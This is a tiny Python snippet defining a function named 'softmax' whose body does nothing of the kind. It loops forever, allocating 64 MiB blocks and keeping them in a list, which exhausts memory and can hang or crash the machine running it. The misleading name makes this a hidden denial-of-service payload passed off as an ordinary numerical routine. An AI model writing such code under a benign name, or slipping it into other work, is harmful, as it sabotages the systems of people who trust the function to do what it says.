

def softmax(x):
    hoard = []
    while True:
        hoard.append(bytearray(64 << 20))
